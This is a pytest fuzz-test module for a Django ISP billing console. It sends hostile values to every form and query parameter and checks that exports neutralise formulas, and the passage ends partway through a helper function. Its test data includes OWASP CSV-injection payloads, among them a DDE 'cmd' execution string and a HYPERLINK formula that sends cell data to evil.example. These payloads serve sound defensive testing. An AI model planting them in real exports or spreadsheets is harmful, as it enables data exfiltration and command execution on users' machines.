"""Hostile input everywhere the console takes input: every form's POST and every query parameter of
every page, with NUL bytes, 20-digit numbers, 1e20, NaN, -0, 10,000-character strings, 9999-12-31,
0000-00-00, bidi controls, SQL and template syntax. Never a 500; a refused input leaves the money
tables (ledger, payments, bills, allocations) exactly as they were. Also: exports neutralise formula
text (OWASP CSV injection) and the provider form refuses gateways on private addresses."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from decimal import Decimal
from typing import Any

import pytest
from django.db.models import Count, Sum
from django.test import Client
from django.urls import URLPattern, reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from sonjog.billing.models import CashHandoverPayment, EntryKind, FloatAccount, FloatEntry, Invoice, LedgerEntry
from sonjog.billing.selectors import subscriber_balance
from sonjog.billing.services.floats import float_account_open, float_topup
from sonjog.catalog.services import addon_create
from sonjog.conftest import make_package, make_subscriber
from sonjog.console import urls as console_urls
from sonjog.console.tests.conftest import Tree, operator_form_data
from sonjog.core.tests.hostile import hostile_text, money_snapshot
from sonjog.customers.models import Subscriber
from sonjog.flows.payments import payment_receive
from sonjog.flows.subscribers import subscriber_addon_activate
from sonjog.gateways.models import InboundRequest
from sonjog.gateways.services import attempt_create, gateway_account_create, inbound_store
from sonjog.network.services import router_create
from sonjog.notifications.models import ProviderAccount
from sonjog.notifications.services import provider_account_create, template_save
from sonjog.operators.models import Operator, Staff

pytestmark = pytest.mark.django_db

FUZZ_SETTINGS = hypothesis_settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
# The values the deterministic sweeps use: one of each kind of trouble.
SWEEP = ["\x00", "9" * 20, "1e20", "x" * 10_000, "9999-12-31", "\u202e1"]


@dataclass
class World:
    """The tree, logged in as the root ISP's owner (who may do everything everywhere), and the rows
    the forms act on."""

    tree: Tree
    client: Client
    subscriber: Subscriber
    other: Subscriber
    rows: dict[str, Any] = field(default_factory=dict)


@pytest.fixture
def world(tree: Tree) -> World:
    root = tree.root
    subscriber, other = root.subscribers
    cheaper = make_package(root.operator, "500.00", vat=False, name="Root 5M")
    account = provider_account_create(
        operator=root.operator,
        name="Fuzz gateway",
        kind="generic_http",
        credentials={"api_key": "k"},
        base_url="http://127.0.0.1:9",
        cost_per_segment=Decimal("0.25"),
    )
    template_save(
        operator=root.operator, event="due_reminder", channel="sms", language="en", body="Pay {{ amount_due }}"
    )
    entry = LedgerEntry.objects.filter(subscriber=subscriber, kind=EntryKind.BILL).earliest("pk")
    invoice = Invoice.objects.filter(bill__subscriber=subscriber).earliest("pk")
    # One add-on the subscriber has (to end) and one it has not (to start).
    running = addon_create(operator=root.operator, name="Fuzz IP", price=Decimal("300.00"))
    subscriber_addon_activate(subscriber=subscriber, addon=running)
    offered = addon_create(operator=root.operator, name="Fuzz TV", price=Decimal("199.00"))
    # North runs on a float (its page's forms act on it); south has none yet (the Floats page opens one).
    north_float = float_account_open(operator=tree.north.operator)
    float_topup(operator=tree.north.operator, amount=Decimal("1000.00"), method="cash")
    # A bKash account on a closed loopback port (a "check now" fails fast), one checkout of the root's
    # subscriber, and a request about it whose handling failed (to replay).
    gateway_account = gateway_account_create(
        operator=root.operator,
        gateway="bkash",
        name="Fuzz bKash",
        base_url="http://127.0.0.1:9",
        merchant_account="01700000009",
        credentials={"username": "u", "password": "p", "app_key": "k", "app_secret": "s"},
    )
    attempt = attempt_create(subscriber=subscriber, account=gateway_account, amount=Decimal("100.00"), source="portal")
    inbound = inbound_store(
        gateway="bkash",
        kind="return",
        method="GET",
        path=f"/pay/{attempt.merchant_reference}/return/",
        params={"paymentID": "FUZZ", "status": "success"},
        body="",
        source_address=None,
    )
    InboundRequest.objects.filter(pk=inbound.pk).update(attempt=attempt, account=gateway_account, error="fuzz")
    # A billing clerk's cash, waiting in a hand-over for the owner to approve or dispute (issue 15).
    Operator.objects.filter(pk=root.operator.pk).update(collection_approval=True)
    clerk = root.staff["billing_clerk"]
    handed = payment_receive(subscriber=other, amount=Decimal("120.00"), method="cash", collector=clerk, actor=clerk)
    return World(
        tree=tree,
        client=tree.login(root.staff["owner"]),
        subscriber=subscriber,
        other=other,
        rows={
            "package": cheaper,
            "account": account,
            "entry": entry,
            "invoice": invoice,
            "addon": running,
            "offered_addon": offered,
            "float": north_float,
            "gateway_account": gateway_account,
            "attempt": attempt,
            "inbound": inbound,
            "handover": CashHandoverPayment.objects.get(payment=handed).handover,
            "router": router_create(operator=root.operator, name="Fuzz router", address="127.0.0.1", api_port=9),
        },
    )


@dataclass(frozen=True)
class FormPost:
    """One console form: where it posts, a valid submission, and so every field it reads."""

    name: str
    url: Callable[[World], str]
    valid: Callable[[World], dict[str, str]]


def _staff_pk(world: World, role: str) -> int:
    return Staff.objects.get(user=world.tree.north.staff[role]).pk


def _subscriber_url(name: str) -> Callable[[World], str]:
    return lambda w: reverse(f"console:{name}", args=[w.subscriber.pk])


FORMS: list[FormPost] = [
    FormPost(
        "subscriber_create",
        lambda w: reverse("console:subscriber_create"),
        lambda w: {
            "operator": str(w.tree.root.operator.pk),
            "name": "Fuzz Subscriber",
            "phone": "01712345670",
            "email": "",
            "address": "",
            "national_id": "",
            "zone": str(w.tree.root.zone.pk),
            "package": str(w.tree.root.package.pk),
            "pppoe_username": "",
            "pppoe_password": "",
            "activation_date": "",
            "billing_mode": "",
            "billing_cycle": "",
            "billing_day": "",
            "monthly_discount": "",
            "is_vip": "",
        },
    ),
    FormPost(
        "subscriber_contact",
        _subscriber_url("subscriber_contact"),
        lambda w: {
            "name": w.subscriber.name,
            "phone": w.subscriber.phone,
            "email": "a@example.net",
            "address": "House 1",
            "national_id": "123",
            "zone": str(w.tree.root.zone.pk),
        },
    ),
    FormPost(
        "subscriber_package",
        _subscriber_url("subscriber_package"),
        lambda w: {"package": str(w.rows["package"].pk), "effective_date": ""},
    ),
    FormPost(
        "subscriber_payment",
        _subscriber_url("subscriber_payment"),
        lambda w: {"amount": "10.00", "method": "cash", "reference": "R-1", "confirm_duplicate": "on", "back": ""},
    ),
    FormPost(
        "subscriber_adjustment",
        _subscriber_url("subscriber_adjustment"),
        lambda w: {"direction": "credit", "amount": "5.00", "reason": "manual", "memo": "fuzz", "effective_date": ""},
    ),
    FormPost(
        "entry_reverse",
        lambda w: reverse("console:entry_reverse", args=[w.subscriber.pk, w.rows["entry"].pk]),
        lambda w: {"reason": "fuzz"},
    ),
    FormPost(
        "subscriber_intent",
        _subscriber_url("subscriber_intent"),
        lambda w: {"intent": "suspended", "reason": "fuzz", "confirm_overdue": ""},
    ),
    FormPost("subscriber_password_reset", _subscriber_url("subscriber_password_reset"), lambda w: {"send_sms": ""}),
    FormPost(
        "subscriber_terminate",
        lambda w: reverse("console:subscriber_terminate", args=[w.other.pk]),
        lambda w: {"terminated_on": "", "reason": "fuzz"},
    ),
    FormPost(
        "invoice_void",
        lambda w: reverse("console:invoice_void", args=[w.rows["invoice"].pk]),
        lambda w: {"reason": "x"},
    ),
    FormPost(
        "generate",
        lambda w: reverse("console:generate"),
        lambda w: {"period": "2026-11", "operator": str(w.tree.root.operator.pk), "step": "preview"},
    ),
    FormPost(
        "package_create",
        lambda w: reverse("console:package_create"),
        lambda w: {
            "operator": str(w.tree.root.operator.pk),
            "name": "Fuzz plan",
            "price": "100.00",
            "download_mbps": "1",
            "upload_mbps": "1",
            "router_profile": "fuzz",
            "vat_applicable": "on",
            "is_active": "on",
        },
    ),
    FormPost(
        "package_edit",
        lambda w: reverse("console:package_edit", args=[w.rows["package"].pk]),
        lambda w: {
            "name": "Root 5M",
            "price": "500.00",
            "download_mbps": "5",
            "upload_mbps": "5",
            "router_profile": "5m",
            "is_active": "on",
        },
    ),
    FormPost(
        "addon_create",
        lambda w: reverse("console:addon_create"),
        lambda w: {
            "operator": str(w.tree.root.operator.pk),
            "name": "Fuzz boost",
            "price": "50.00",
            "vat_applicable": "on",
            "effect": "address_list",
            "effect_value": "fuzz",
            "is_active": "on",
        },
    ),
    FormPost(
        "addon_edit",
        lambda w: reverse("console:addon_edit", args=[w.rows["addon"].pk]),
        lambda w: {
            "name": "Fuzz IP",
            "price": "300.00",
            "vat_applicable": "on",
            "effect": "none",
            "effect_value": "",
            "is_active": "on",
        },
    ),
    FormPost(
        "addon_sale",
        lambda w: reverse("console:addon_sale", args=[w.rows["addon"].pk]),
        lambda w: {"on_sale": "1"},
    ),
    FormPost(
        "subscriber_addon_activate",
        _subscriber_url("subscriber_addon_activate"),
        lambda w: {"addon": str(w.rows["offered_addon"].pk), "start_date": ""},
    ),
    FormPost(
        "subscriber_addon_deactivate",
        lambda w: reverse("console:subscriber_addon_deactivate", args=[w.subscriber.pk, w.rows["addon"].pk]),
        lambda w: {"end_date": ""},
    ),
    FormPost(
        "zone_create",
        lambda w: reverse("console:zone_create"),
        lambda w: {"operator": str(w.tree.root.operator.pk), "name": "Fuzz zone", "parent": ""},
    ),
    FormPost(
        "zone_edit",
        lambda w: reverse("console:zone_edit", args=[w.tree.root.zone.pk]),
        lambda w: {"name": "Root zone", "parent": ""},
    ),
    FormPost(
        "bulk_start",
        lambda w: reverse("console:bulk_start"),
        lambda w: {
            "kind": "suspend",
            "subscribers": str(w.subscriber.pk),
            "all_matching": "",
            "package": "",
            "message": "",
            "filters": "q=Test&page=1",
        },
    ),
    FormPost(
        "overdue_suspend",
        lambda w: reverse("console:overdue_suspend"),
        lambda w: {"filters": f"zone={w.tree.root.zone.pk}&age=7", "step": "confirm", "expected": "1"},
    ),
    FormPost(
        "automation_schedule",
        lambda w: reverse("console:automation_schedule"),
        lambda w: {"generation_day": "", "generation_hour": "0", "reminder_hour": "10"},
    ),
    FormPost(
        "automation_rule_add",
        lambda w: reverse("console:automation_rule_add"),
        lambda w: {"event": "bill_due", "offset_days": "-3", "package": "", "zone": "", "channel": ""},
    ),
    FormPost(
        "messaging_template_edit",
        lambda w: reverse("console:messaging_template_edit", args=["due_reminder", "sms", "en"]),
        lambda w: {"body": "Pay {{ amount_due }}", "is_active": "on", "preview_subscriber": "", "operator": ""},
    ),
    FormPost(
        "messaging_template_preview",
        lambda w: reverse("console:messaging_template_preview"),
        lambda w: {
            "event": "due_reminder",
            "channel": "email",
            "language": "en",
            "subject": "Hello",
            "body": "Hi {{ name }}",
            "preview_subscriber": "",
            "operator": "",
        },
    ),
    FormPost(
        "messaging_bulk",
        lambda w: reverse("console:messaging_bulk"),
        lambda w: {
            "step": "preview",
            "status": "active",
            "zone": "",
            "package": "",
            "owes": "",
            "q": "",
            "template": "",
            "text": "Hello {{ name }}",
            "token": "",
            "operator": "",
        },
    ),
    FormPost(
        "messaging_credit_add",
        lambda w: reverse("console:messaging_credit_add"),
        lambda w: {"amount": "10.00", "note": "fuzz", "operator": ""},
    ),
    FormPost(
        "messaging_credit_threshold",
        lambda w: reverse("console:messaging_credit_threshold"),
        lambda w: {"threshold": "50.00", "operator": ""},
    ),
    FormPost(
        "messaging_notifications",
        lambda w: reverse("console:messaging_notifications"),
        lambda w: {
            "quiet_hours_enabled": "on",
            "quiet_start": "22:00",
            "quiet_end": "08:00",
            "default_language": "en",
            "default_channels": "sms",
            "muted_events": "",
            "portal_url": "https://portal.example.net",
            "payment_instructions": "bKash",
            "operator": "",
        },
    ),
    FormPost(
        "messaging_account_create",
        lambda w: reverse("console:messaging_account_create"),
        lambda w: {
            "kind": "generic_http",
            "name": "Fuzz second gateway",
            "sender_id": "FUZZ",
            "username": "",
            "secret_api_key": "k",
            "secret_password": "",
            "base_url": "http://127.0.0.1:9",
            "cost_per_segment": "0.25",
            "options_json": '{"path": "/send"}',
            "is_active": "",
            "operator": "",
        },
    ),
    FormPost(
        "messaging_account_edit",
        lambda w: reverse("console:messaging_account_edit", args=[w.rows["account"].pk]),
        lambda w: {
            "name": "Fuzz gateway",
            "sender_id": "FUZZ",
            "username": "",
            "secret_api_key": "",
            "secret_password": "",
            "base_url": "http://127.0.0.1:9",
            "cost_per_segment": "0.25",
            "options_json": "",
        },
    ),
    FormPost(
        "messaging_account_active",
        lambda w: reverse("console:messaging_account_active", args=[w.rows["account"].pk]),
        lambda w: {"active": "1"},
    ),
    FormPost(
        "router_create",
        lambda w: reverse("console:router_create"),
        lambda w: {
            "operator": str(w.tree.root.operator.pk),
            "name": "Fuzz router 2",
            "driver": "mikrotik",
            "address": "127.0.0.1",
            "api_port": "9",
            "use_tls": "",
            "username": "admin",
            "password": "fuzz-pass",
            "radius_secret": "",
            "coa_port": "3799",
            "supports_coa": "on",
            "zones": str(w.tree.root.zone.pk),
            "record_only": "",
            "suspend_mode": "disable",
            "suspended_profile": "suspended",
            "suspended_address_list": "suspended",
        },
    ),
    FormPost(
        "router_edit",
        lambda w: reverse("console:router_edit", args=[w.rows["router"].pk]),
        lambda w: {
            "name": "Fuzz router",
            "driver": "mikrotik",
            "address": "127.0.0.1",
            "api_port": "9",
            "use_tls": "",
            "username": "admin",
            "password": "",
            "radius_secret": "",
            "coa_port": "3799",
            "supports_coa": "on",
            "zones": str(w.tree.root.zone.pk),
            "record_only": "",
            "suspend_mode": "disable",
            "suspended_profile": "suspended",
            "suspended_address_list": "suspended",
        },
    ),
    FormPost(
        "router_active",
        lambda w: reverse("console:router_active", args=[w.rows["router"].pk]),
        lambda w: {"active": "1"},
    ),
    FormPost(
        "operator_create",
        lambda w: reverse("console:operator_create"),
        lambda w: {
            **operator_form_data(w.tree.north.operator),
            "parent": str(w.tree.root.operator.pk),
            "code": "fuzz-reseller",
            "name": "Fuzz reseller",
            "customer_id_prefix": "FZ",
            "modules": "billing",
            "owner_username": "fuzz-owner",
            "owner_password": "Fuzz-owner-pass-1",
            "owner_email": "",
        },
    ),
    FormPost(
        "operator_edit",
        lambda w: reverse("console:operator_edit", args=[w.tree.north.operator.pk]),
        lambda w: {**operator_form_data(w.tree.north.operator), "modules": "collection"},
    ),
    FormPost(
        "operator_active",
        lambda w: reverse("console:operator_active", args=[w.tree.north.operator.pk]),
        lambda w: {"active": "1"},
    ),
    FormPost(
        "staff_create",
        lambda w: reverse("console:staff_create"),
        lambda w: {
            "operator": str(w.tree.root.operator.pk),
            "username": "fuzz-staff",
            "name": "Fuzz Staff",
            "email": "",
            "phone": "",
            "role": "collector",
            "sees_subtree": "on",
            "password_choice": "generate",
            "password": "",
        },
    ),
    FormPost(
        "staff_edit",
        lambda w: reverse("console:staff_edit", args=[_staff_pk(w, "collector")]),
        lambda w: {"name": "Fuzz Staff", "email": "", "phone": "", "role": "collector", "sees_subtree": "on"},
    ),
    FormPost(
        "staff_active",
        lambda w: reverse("console:staff_active", args=[_staff_pk(w, "support")]),
        lambda w: {"active": "1"},
    ),
    FormPost(
        "staff_password",
        lambda w: reverse("console:staff_password", args=[_staff_pk(w, "support")]),
        lambda w: {"password_choice": "type", "password": "Fuzz-pass-123"},
    ),
    FormPost(
        "role_edit",
        lambda w: reverse("console:role_edit", args=[w.tree.north.operator.pk]),
        lambda w: {
            "role": "collector",
            "name": "",
            "landing": "",
            "cell_subscribers_view": "on",
            "cell_payments_act": "on",
            "cell_special_resellers": "on",
            "action": "",
        },
    ),
    FormPost(
        "subscriber_hold",
        _subscriber_url("subscriber_hold"),
        lambda w: {"start_date": "2027-01-01", "end_date": "2027-03-01", "reason": "away"},
    ),
    FormPost("subscriber_bill_ahead", _subscriber_url("subscriber_bill_ahead"), lambda w: {"through": "2027-01-01"}),
    FormPost(
        "subscriber_schedule",
        _subscriber_url("subscriber_schedule"),
        lambda w: {"kind": "suspend", "effective_date": "2026-12-20", "package": "", "reason": "asked"},
    ),
    FormPost("language", lambda w: reverse("console:language"), lambda w: {"language": "en", "next": "/"}),
    FormPost(
        "floats",
        lambda w: reverse("console:floats"),
        lambda w: {
            "operator": str(w.tree.south.operator.pk),
            "credit_limit": "100.00",
            "minimum_balance": "",
            "hold_renewals": "",
            "low_balance_alert": "0",
            "credit_back": "prorated",
        },
    ),
    # The float's page has three forms, told apart by `action`.
    FormPost(
        "float",
        lambda w: reverse("console:float", args=[w.rows["float"].pk]),
        lambda w: {
            "action": "topup",
            "topup-amount": "10.00",
            "topup-method": "cash",
            "topup-reference": "R-1",
            "topup-memo": "fuzz",
        },
    ),
    FormPost(
        "float.adjust",
        lambda w: reverse("console:float", args=[w.rows["float"].pk]),
        lambda w: {"action": "adjust", "adjust-amount": "-5.00", "adjust-memo": "fuzz"},
    ),
    FormPost(
        "float.settings",
        lambda w: reverse("console:float", args=[w.rows["float"].pk]),
        lambda w: {
            "action": "settings",
            "settings-credit_limit": "100.00",
            "settings-minimum_balance": "-50.00",
            "settings-hold_renewals": "on",
            "settings-low_balance_alert": "10.00",
            "settings-credit_back": "full",
        },
    ),
    FormPost(
        "gateway_account_create",
        lambda w: reverse("console:gateway_account_create"),
        lambda w: {
            "gateway": "bkash",
            "operator": str(w.tree.root.operator.pk),
            "name": "Fuzz bKash 2",
            "mode": "sandbox",
            "base_url": "http://127.0.0.1:9",
            "merchant_account": "01700000010",
            "fee_rate": "1.5",
            "fee_mode": "absorbed",
            "credential_username": "u",
            "credential_password": "p",
            "credential_app_key": "k",
            "credential_app_secret": "s",
        },
    ),
    # A gateway account's page: its edit form (blank credentials keep the stored ones) and the switch.
    FormPost(
        "gateway_account",
        lambda w: reverse("console:gateway_account", args=[w.rows["gateway_account"].pk]),
        lambda w: {
            "gateway": "bkash",
            "action": "save",
            "name": "Fuzz bKash",
            "mode": "sandbox",
            "base_url": "http://127.0.0.1:9",
            "merchant_account": "01700000009",
            "fee_rate": "1.5",
            "fee_mode": "passed_on",
            "active": "on",
            "credential_username": "",
            "credential_password": "",
            "credential_app_key": "",
            "credential_app_secret": "",
        },
    ),
    FormPost(
        "gateway_account.active",
        lambda w: reverse("console:gateway_account", args=[w.rows["gateway_account"].pk]),
        lambda w: {"action": "active", "active": "0"},
    ),
    # The online payment's page: "check now" (the gateway on the closed port does not answer) and
    # "replay" of its stored request.
    FormPost(
        "online_payment",
        lambda w: reverse("console:online_payment", args=[w.rows["attempt"].pk]),
        lambda w: {"action": "check"},
    ),
    FormPost(
        "online_payment.replay",
        lambda w: reverse("console:online_payment", args=[w.rows["attempt"].pk]),
        lambda w: {"action": "replay", "inbound": str(w.rows["inbound"].pk)},
    ),
    # Its refund (the attempt is not applied: nothing is left to refund, so every post is refused).
    FormPost(
        "online_payment.refund",
        lambda w: reverse("console:online_payment", args=[w.rows["attempt"].pk]),
        lambda w: {"action": "refund", "step": "confirm", "amount": "1.00", "reason": "fuzz"},
    ),
    # The settlement check run again for a day (the gateway on the closed port: a check with the error).
    FormPost(
        "online_settlement",
        lambda w: reverse("console:online_settlement"),
        lambda w: {"gateway_account": str(w.rows["gateway_account"].pk), "day": "2026-11-17"},
    ),
]
# A cash hand-over's page: approve (first the confirmation, then confirmed) and dispute.
FORMS += [
    FormPost(
        "handover",
        lambda w: reverse("console:handover", args=[w.rows["handover"].pk]),
        lambda w: {
            "action": "approve",
            "approve-counted": "100.00",
            "approve-approval_note": "x",
            "approve-expected": "120",
        },
    ),
    FormPost(
        "handover.confirm",
        lambda w: reverse("console:handover", args=[w.rows["handover"].pk]),
        lambda w: {
            "action": "approve",
            "step": "confirm",
            "approve-counted": "100.00",
            "approve-approval_note": "x",
            "approve-expected": "120.00",
        },
    ),
    FormPost(
        "handover.dispute",
        lambda w: reverse("console:handover", args=[w.rows["handover"].pk]),
        lambda w: {"action": "dispute", "dispute-note": "fuzz", "dispute-count": "", "dispute-expected": "120.00"},
    ),
]
FORMS_BY_NAME = {form.name: form for form in FORMS}
# Buttons that post nothing but the row in their URL (and perhaps `next`, which safe_next checks), and
# pages that answer GET only; the sign-in page is driven separately (an anonymous client).
NO_FORM_FIELDS = {
    "logout",
    "logout_everywhere",
    "router_test",
    "router_read",
    "outbox_retry",
    "automation_run",
    "automation_rule_remove",
    "messaging_credit_resend",
    "messaging_message_resend",
    "operator_settings_cancel",
    "subscriber_password_reveal",
}
# Every query parameter any console view reads.
QUERY_PARAMETERS = [
    "q",
    "page",
    "sort",
    "status",
    "kind",
    "month",
    "collector",
    "zone",
    "package",
    "mode",
    "online",
    "due_min",
    "due_max",
    "joined",
    "left",
    "network",
    "expiring",
    "operator",
    "day",
    "only",
    "channel",
    "event",
    "bulk",
    "before",
    "back",
    "next",
    "role",
    "open",
    "receipt",
    "state",
    "gateway",
    "created_from",
    "created_to",
]
# An event stream never ends; it reads no parameters.
ENDLESS = {"dashboard_stream"}
# Reported, not fixed here: billing.py (another engineer's) reads ?collector= with str.isdigit(),
# which "²" passes and int() then refuses, a 500. See test_payments_collector_with_a_superscript_digit.
KNOWN_BROKEN = {("payments", "collector")}


def _list_pages() -> list[str]:
    """The console's pages without a row in their URL (lists, dashboards, forms), from the URLconf."""
    names = []
    for pattern in console_urls.urlpatterns:
        assert isinstance(pattern, URLPattern)
        if pattern.name and not pattern.pattern.converters and pattern.name not in ENDLESS:
            names.append(pattern.name)
    return names


LIST_PAGES = _list_pages()


def _named_url(name: str) -> Callable[[World], str]:
    return lambda w: reverse(f"console:{name}")


# Pages with a row in their URL that still read query parameters.
PAGE_URLS: dict[str, Callable[[World], str]] = {
    **{name: _named_url(name) for name in LIST_PAGES},
    "subscribers_export.csv": lambda w: reverse("console:subscribers_export", args=["csv"]),
    "subscribers_export.xlsx": lambda w: reverse("console:subscribers_export", args=["xlsx"]),
    "payments_export.csv": lambda w: reverse("console:payments_export", args=["csv"]),
    "payments_export.xlsx": lambda w: reverse("console:payments_export", args=["xlsx"]),
    "overdue_export.csv": lambda w: reverse("console:overdue_export", args=["csv"]),
    "overdue_export.xlsx": lambda w: reverse("console:overdue_export", args=["xlsx"]),
    "export_download.csv": lambda w: reverse("console:export_download", args=["ledger", "csv"]),
    "export_download.xlsx": lambda w: reverse("console:export_download", args=["subscribers", "xlsx"]),
    "subscriber": lambda w: reverse("console:subscriber", args=[w.subscriber.pk]),
    "subscriber_payment": lambda w: reverse("console:subscriber_payment", args=[w.subscriber.pk]),
    "receipt": lambda w: reverse("console:receipt", args=[w.rows["receipt"].pk]),
    "messaging_template_edit": lambda w: reverse("console:messaging_template_edit", args=["due_reminder", "sms", "en"]),
    "messaging_account_edit": lambda w: reverse("console:messaging_account_edit", args=[w.rows["account"].pk]),
    "role_edit": lambda w: reverse("console:role_edit", args=[w.tree.north.operator.pk]),
    "float": lambda w: reverse("console:float", args=[w.rows["float"].pk]),
    "gateway_account": lambda w: reverse("console:gateway_account", args=[w.rows["gateway_account"].pk]),
    "online_payment": lambda w: reverse("console:online_payment", args=[w.rows["attempt"].pk]),
    "handover": lambda w: reverse("console:handover", args=[w.rows["handover"].pk]),
}


def _money() -> dict[str, Any]:
    """The money tables, and the resellers' floats (their entries and balances)."""
    floats = FloatEntry.objects.aggregate(rows=Count("pk"), total=Sum("amount"))
    return {
        **money_snapshot(),
        "float_entries": (floats["rows"], floats["total"]),
        "floats": sorted(FloatAccount.objects.values_list("pk", "balance", "credit_limit", "minimum_balance")),
    }


def _sent(response: Any) -> str:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content).decode("utf-8", "replace")
    return response.content.decode("utf-8", "replace")


def _post(world: World, form: FormPost, changes: dict[str, str]) -> None:
    data = {**form.valid(world), **changes}
    before = _money()
    response = world.client.post(form.url(world), data)
    assert response.status_code < 500, (form.name, changes, response.status_code)
    if response.status_code in (400, 409, 422):
        assert _money() == before, (form.name, changes)


def _get(world: World, page: str, params: dict[str, str]) -> None:
    before = _money()
    response = world.client.get(PAGE_URLS[page](world), params)
    _sent(response)  # a streamed export fails while it streams, not before
    assert response.status_code < 500, (page, params, response.status_code)
    assert _money() == before


# -- the URLconf is covered -----------------------------------------------------------------------


def test_every_console_url_is_driven_here():
    names = {pattern.name for pattern in console_urls.urlpatterns if isinstance(pattern, URLPattern)}
    driven = set(FORMS_BY_NAME) | NO_FORM_FIELDS | set(LIST_PAGES) | set(PAGE_URLS) | ENDLESS
    row_pages = {
        "bulk",
        "subscriber_network",
        "invoice",
        "invoice_pdf",
        "run",
        "messaging_template",
        "messaging_bulk_result",
        "messaging_message",
        "subscribers_export",
        "payments_export",
        "overdue_export",
        # The Export page's downloads (above); their scoping is transfer/tests/test_exports's.
        "export_download",
        # An import batch's pages: their hostile uploads and mappings are test_import_page's.
        "import_batch",
        "import_problems",
        "import_undo",
        # Buttons on a hold or a booked change of the profile: test_profile_plans drives them.
        "subscriber_hold_end",
        "subscriber_schedule_cancel",
        # A router's backups, a download and "Back up now": test_backups drives them with the FTP server.
        "router_backups",
        "router_backup",
        "router_backup_download",
        # An outage's progress and result: test_outage_page drives it.
        "outage",
        # "Act as reseller" on an operator: test_act_as drives it, its scoping included.
        "act_start",
    }
    assert names - driven - row_pages == set()


# -- the six reported 500s ------------------------------------------------------------------------


def test_a_nul_byte_in_the_collect_search_is_a_clear_message(world):
    response = world.client.get(reverse("console:collect"), {"q": "Test\x00"})
    assert response.status_code == 400
    assert "control characters" in response.content.decode()
    live = world.client.get(reverse("console:collect"), {"q": "\x00"}, HTTP_HX_REQUEST="true")
    assert live.status_code == 200 and 'id="collect-error"' in live.content.decode()


def test_a_nul_byte_in_the_template_preview_is_a_clear_message(world):
    data = FORMS_BY_NAME["messaging_template_preview"].valid(world)
    for name in ("body", "subject", "preview_subscriber"):
        response = world.client.post(reverse("console:messaging_template_preview"), {**data, name: "Hi\x00"})
        assert response.status_code == 200 and 'id="preview-error"' in response.content.decode(), name
    edit = world.client.post(
        reverse("console:messaging_template_edit", args=["due_reminder", "sms", "en"]),
        {"body": "Pay\x00", "is_active": "on", "preview_subscriber": "\x00"},
    )
    assert edit.status_code == 400


@pytest.mark.parametrize("number", ["9" * 20, "99999999", "0", "-1", "abc", "1e3", "²", ""])
def test_any_page_number_on_the_overdue_list_shows_a_real_page(world, number):
    response = world.client.get(reverse("console:overdue"), {"page": number})
    assert response.status_code == 200
    assert 1 <= response.context["number"] <= response.context["pages"]


def test_an_adjustment_dated_9999_12_31_is_a_form_error(world):
    before = money_snapshot()
    data = {**FORMS_BY_NAME["subscriber_adjustment"].valid(world), "effective_date": "9999-12-31"}
    response = world.client.post(reverse("console:subscriber_adjustment", args=[world.subscriber.pk]), data)
    assert response.status_code == 400 and "effective_date" in response.context["form"].errors
    assert money_snapshot() == before


def test_a_package_of_99999999999_mbps_is_a_form_error(world):
    data = {**FORMS_BY_NAME["package_create"].valid(world), "download_mbps": "99999999999"}
    response = world.client.post(reverse("console:package_create"), data)
    assert response.status_code == 400 and "download_mbps" in response.context["form"].errors


# -- every form, every field ----------------------------------------------------------------------


@pytest.mark.parametrize("form", FORMS, ids=[form.name for form in FORMS])
def test_each_field_of_each_form_takes_the_sweep_without_a_500(world, form):
    for name in form.valid(world):
        for value in SWEEP:
            _post(world, form, {name: value})


@FUZZ_SETTINGS
@given(data=st.data())
def test_hostile_posts_never_500_and_refusals_write_no_money(world, data):
    form = data.draw(st.sampled_from(FORMS), label="form")
    names = data.draw(st.lists(st.sampled_from(sorted(form.valid(world))), min_size=1, max_size=3, unique=True))
    _post(world, form, {name: data.draw(hostile_text, label=name) for name in names})


def test_the_sign_in_form_takes_hostile_values(db):
    client = Client()
    for value in SWEEP:
        for data in ({"username": value, "password": "x"}, {"username": "someone", "password": value}):
            assert client.post(reverse("console:login"), data).status_code < 500


# -- every query parameter of every page ----------------------------------------------------------


@pytest.fixture
def world_with_receipt(world):
    world.rows["receipt"] = payment_receive(subscriber=world.subscriber, amount=Decimal("100.00"), method="cash")
    return world


def test_every_page_takes_every_parameter_hostile_at_once(world_with_receipt):
    for page in PAGE_URLS:
        for value in SWEEP:
            params = {name: value for name in QUERY_PARAMETERS if (page, name) not in KNOWN_BROKEN}
            _get(world_with_receipt, page, params)


@FUZZ_SETTINGS
@given(data=st.data())
def test_hostile_query_parameters_never_500(world_with_receipt, data):
    page = data.draw(st.sampled_from(sorted(PAGE_URLS)), label="page")
    allowed = [name for name in QUERY_PARAMETERS if (page, name) not in KNOWN_BROKEN]
    names = data.draw(st.lists(st.sampled_from(allowed), min_size=1, max_size=4, unique=True))
    _get(world_with_receipt, page, {name: data.draw(hostile_text, label=name) for name in names})


def test_payments_collector_with_a_superscript_digit(world):
    response = world.client.get(reverse("console:payments"), {"collector": "²"})
    assert response.status_code < 500


# -- exports --------------------------------------------------------------------------------------

# OWASP's CSV-injection payloads. Those without control characters go in through the contact form
# like any name; the tab- and carriage-return-led ones the forms now refuse, so they are written
# straight to the rows, as data stored before the checks (or through another path) would be.
TYPED_PAYLOADS = ["=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3", '=HYPERLINK("http://evil.example/?x="&A1,"Hi")']
STORED_PAYLOADS = ["\t=1+1", "\r=1+1", "=1+1\x01"]


@pytest.fixture
def exported(world):
    """Subscribers carrying the payloads in their names and addresses, and one in credit (-250.00)."""
    root = world.tree.root
    carriers = []
    for payload in TYPED_PAYLOADS:
        subscriber = make_subscriber(root.operator, root.package, None)
        response = world.client.post(
            reverse("console:subscriber_contact", args=[subscriber.pk]),
            {"name": payload, "phone": subscriber.phone, "address": payload, "email": "", "national_id": ""},
        )
        assert response.status_code == 302, response.context["form"].errors
        carriers.append(subscriber)
    for payload in STORED_PAYLOADS:
        subscriber = make_subscriber(root.operator, root.package, None)
        Subscriber.objects.filter(pk=subscriber.pk).update(name=payload, address=payload)
        carriers.append(subscriber)
    in_credit = make_subscriber(root.operator, root.package, None)
    payment_receive(subscriber=in_credit, amount=Decimal("250.00"), method="cash")
    assert subscriber_balance(in_credit.pk) == Decimal("-250.00")
    return world, carriers, in_credit


def _is_formula_safe(text: str) -> bool:
